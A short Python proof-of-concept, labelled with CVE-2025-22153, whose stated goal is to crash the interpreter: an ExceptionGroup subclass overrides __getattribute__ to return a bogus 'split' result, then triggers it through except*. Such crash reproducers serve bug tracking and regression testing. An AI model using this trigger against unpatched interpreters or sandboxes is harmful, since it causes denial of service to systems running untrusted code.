# technique: split looked up by __getattribute__
# goal: crash
# mended: later releases
# source: CVE-2025-22153
class Group(ExceptionGroup):
    def __getattribute__(self, name):
        if name == 'split':
            return lambda condition: 7 ** 100
        return super().__getattribute__(name)


try:
    raise Group('group', [ValueError()])
except* ValueError:
    pass
